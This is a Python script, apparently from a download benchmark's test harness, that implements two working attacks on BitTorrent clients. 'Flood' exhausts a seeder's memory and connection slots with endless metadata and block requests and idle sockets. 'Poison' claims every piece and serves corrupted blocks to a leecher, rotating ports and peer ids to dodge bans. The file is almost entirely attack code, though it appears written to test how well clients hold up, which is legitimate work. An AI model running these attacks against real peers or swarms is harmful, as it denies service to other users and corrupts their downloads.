#!/usr/bin/python3
"""Hostile peers for the download benchmark: what one remote party with little bandwidth
can throw at a client, speaking real BitTorrent frames over TCP.

    attack.py flood TORRENT HOST:PORT [--conns N] [--idle N] [--source IP]
        Against a seeder: N connections that handshake for the torrent, say they are
        interested, then send `ut_metadata` and block requests without end and never
        read a byte (their receive buffers are tiny), plus --idle bare TCP connections
        that send nothing and are reopened as soon as they are closed (slot hogging).

    attack.py poison TORRENT --listen IP:PORT [--dial HOST:PORT] [--share F]
        Against a leecher: accepts its connections (and, with --dial, dials it again and
        again from new ports with new peer ids), claims every piece, unchokes, and
        answers a fraction --share of the requests with wrong bytes (the rest with the
        right bytes when --data DIR is given, so its bad blocks end up in pieces the
        honest seeder serves too); requests it does not answer are rejected.

Both run until killed and print what they did on SIGTERM/SIGINT (one line).
"""
import argparse
import hashlib
import os
import random
import signal
import socket
import struct
import sys
import threading
import time


# ---- bencode (just what a .torrent needs) ----

def bdecode(b, i=0):
    c = b[i:i + 1]
    if c == b"i":
        j = b.index(b"e", i)
        return int(b[i + 1:j]), j + 1
    if c == b"l":
        i += 1
        out = []
        while b[i:i + 1] != b"e":
            v, i = bdecode(b, i)
            out.append(v)
        return out, i + 1
    if c == b"d":
        i += 1
        out = {}
        while b[i:i + 1] != b"e":
            k, i = bdecode(b, i)
            v, i = bdecode(b, i)
            out[k] = v
        return out, i + 1
    j = b.index(b":", i)
    n = int(b[i:j])
    return b[j + 1:j + 1 + n], j + 1 + n


def info_span(b):
    """The raw bytes of the info dictionary (the info-hash is their SHA-1)."""
    assert b[:1] == b"d"
    i = 1
    while b[i:i + 1] != b"e":
        k, i = bdecode(b, i)
        start = i
        _, i = bdecode(b, i)
        if k == b"info":
            return b[start:i]
    raise ValueError("no info dictionary")


class Torrent:
    def __init__(self, path):
        raw = open(path, "rb").read()
        info_raw = info_span(raw)
        self.info_hash = hashlib.sha1(info_raw).digest()
        info, _ = bdecode(info_raw)
        self.piece_len = info[b"piece length"]
        self.total = info.get(b"length") or sum(f[b"length"] for f in info[b"files"])
        self.pieces = (self.total + self.piece_len - 1) // self.piece_len
        self.name = info[b"name"].decode("utf-8", "replace")
        self.metadata_size = len(info_raw)


# ---- wire ----

def handshake(info_hash, peer_id):
    reserved = bytearray(8)
    reserved[5] |= 0x10  # extension protocol (BEP 10)
    reserved[7] |= 0x04  # fast extension (BEP 6)
    return b"\x13BitTorrent protocol" + bytes(reserved) + info_hash + peer_id


def msg(mid, payload=b""):
    return struct.pack(">IB", 1 + len(payload), mid) + payload


def ext(eid, payload):
    return msg(20, bytes([eid]) + payload)


def new_peer_id():
    return b"-XX0001-" + os.urandom(6).hex().encode()


def read_exact(s, n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed")
        buf += chunk
    return buf


def read_msg(s):
    (n,) = struct.unpack(">I", read_exact(s, 4))
    if n > (1 << 20):
        raise ConnectionError("frame too long")
    return read_exact(s, n) if n else b""


class Stats:
    def __init__(self):
        self.lock = threading.Lock()
        self.counts = {}

    def add(self, k, n=1):
        with self.lock:
            self.counts[k] = self.counts.get(k, 0) + n

    def line(self):
        with self.lock:
            return " ".join("%s=%d" % kv for kv in sorted(self.counts.items()))


STOP = threading.Event()


# ---- flood: a seeder's memory and slots ----

def flood_conn(t, target, source, stats):
    while not STOP.is_set():
        try:
            s = socket.socket()
            # A tiny receive window: the seeder's replies pile up on its side.
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            if source:
                s.bind((source, 0))
            s.settimeout(10)
            s.connect(target)
            s.sendall(handshake(t.info_hash, new_peer_id()))
            hs = read_exact(s, 68)
            if hs[28:48] != t.info_hash:
                raise ConnectionError("other torrent")
            s.sendall(ext(0, b"d1:md11:ut_metadatai3eee") + msg(2))
            # Learn the seeder's id for ut_metadata from its extension handshake.
            their = None
            deadline = time.time() + 10
            while their is None and time.time() < deadline:
                m = read_msg(s)
                if m[:2] == b"\x14\x00":
                    d, _ = bdecode(m[2:])
                    their = d.get(b"m", {}).get(b"ut_metadata")
            if their is None:
                raise ConnectionError("no ut_metadata")
            stats.add("flood_established")
            pieces = max(1, (t.metadata_size + 16383) // 16384)
            reqs = []
            for i in range(64):
                reqs.append(ext(their, b"d8:msg_typei0e5:piecei%dee" % (i % pieces)))
                p = random.randrange(t.pieces)
                reqs.append(msg(6, struct.pack(">III", p, 0, 16384)))
            burst = b"".join(reqs)
            s.settimeout(1)
            while not STOP.is_set():
                try:
                    s.sendall(burst)
                    stats.add("flood_bytes_sent", len(burst))
                except socket.timeout:
                    # The seeder stopped reading us: backpressure works; keep the
                    # connection open and try again.
                    stats.add("flood_blocked")
                    time.sleep(0.5)
        except (OSError, ConnectionError, ValueError):
            stats.add("flood_closed")
            time.sleep(0.2)
        finally:
            try:
                s.close()
            except OSError:
                pass


def idle_conn(target, source, stats):
    while not STOP.is_set():
        try:
            s = socket.socket()
            if source:
                s.bind((source, 0))
            s.settimeout(5)
            s.connect(target)
            stats.add("idle_opened")
            s.settimeout(1)
            while not STOP.is_set():
                try:
                    if not s.recv(1):
                        break
                except socket.timeout:
                    continue
        except OSError:
            pass
        finally:
            s.close()
        stats.add("idle_closed")
        time.sleep(0.1)


# ---- poison: a leecher's bans ----

class Poisoner:
    def __init__(self, t, share, data_dir, stats):
        self.t = t
        self.share = share
        self.stats = stats
        self.junk = os.urandom(16384)
        self.data = None
        if data_dir:
            path = os.path.join(data_dir, t.name)
            if os.path.isfile(path):
                self.data = open(path, "rb")
                self.data_lock = threading.Lock()

    def block(self, piece, off, n):
        if self.data is not None and random.random() >= self.share:
            with self.data_lock:
                self.data.seek(piece * self.t.piece_len + off)
                return self.data.read(n), True
        return self.junk[:n], False

    def serve(self, s, dialed):
        try:
            s.settimeout(30)
            if dialed:
                s.sendall(handshake(self.t.info_hash, new_peer_id()))
            hs = read_exact(s, 68)
            if hs[:20] != b"\x13BitTorrent protocol" or hs[28:48] != self.t.info_hash:
                return
            if not dialed:
                s.sendall(handshake(self.t.info_hash, new_peer_id()))
            self.stats.add("poison_handshakes")
            fast = hs[27] & 0x04
            if fast:
                s.sendall(msg(14) + msg(1))  # have all, unchoke
            else:
                bits = bytearray(b"\xff" * ((self.t.pieces + 7) // 8))
                spare = len(bits) * 8 - self.t.pieces
                if spare:
                    bits[-1] = (0xff << spare) & 0xff
                s.sendall(msg(5, bytes(bits)) + msg(1))
            while not STOP.is_set():
                m = read_msg(s)
                if m[:1] == b"\x06" and len(m) == 13:
                    piece, off, n = struct.unpack(">III", m[1:])
                    data, good = self.block(piece, off, n)
                    s.sendall(msg(7, m[1:9] + data))
                    self.stats.add("good_blocks" if good else "bad_blocks")
        except (OSError, ConnectionError):
            pass
        finally:
            s.close()
            self.stats.add("poison_closed")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["flood", "poison"])
    ap.add_argument("torrent")
    ap.add_argument("target", nargs="?")
    ap.add_argument("--conns", type=int, default=16)
    ap.add_argument("--idle", type=int, default=64)
    ap.add_argument("--source")
    ap.add_argument("--listen")
    ap.add_argument("--dial")
    ap.add_argument("--share", type=float, default=0.5)
    ap.add_argument("--data")
    args = ap.parse_args()
    t = Torrent(args.torrent)
    stats = Stats()

    def stop(*_):
        STOP.set()
        print("attack %s: %s" % (args.mode, stats.line()), flush=True)
        os._exit(0)

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    threads = []
    if args.mode == "flood":
        host, port = args.target.rsplit(":", 1)
        target = (host, int(port))
        for _ in range(args.conns):
            threads.append(threading.Thread(target=flood_conn, args=(t, target, args.source, stats), daemon=True))
        for _ in range(args.idle):
            threads.append(threading.Thread(target=idle_conn, args=(target, args.source, stats), daemon=True))
    else:
        p = Poisoner(t, args.share, args.data, stats)
        host, port = args.listen.rsplit(":", 1)
        ls = socket.socket()
        ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ls.bind((host, int(port)))
        ls.listen(64)

        def accept_loop():
            while not STOP.is_set():
                c, _ = ls.accept()
                threading.Thread(target=p.serve, args=(c, False), daemon=True).start()

        def dial_loop():
            dh, dp = args.dial.rsplit(":", 1)
            while not STOP.is_set():
                s = socket.socket()
                try:
                    s.bind((host, 0))  # a new port each time, from the same address
                    s.settimeout(5)
                    s.connect((dh, int(dp)))
                    stats.add("poison_dialed")
                    p.serve(s, True)
                except OSError:
                    s.close()
                time.sleep(0.5)

        threads.append(threading.Thread(target=accept_loop, daemon=True))
        if args.dial:
            threads.append(threading.Thread(target=dial_loop, daemon=True))
    for th in threads:
        th.start()
    print("attack %s: running" % args.mode, flush=True)
    while True:
        time.sleep(3600)


if __name__ == "__main__":
    sys.exit(main())
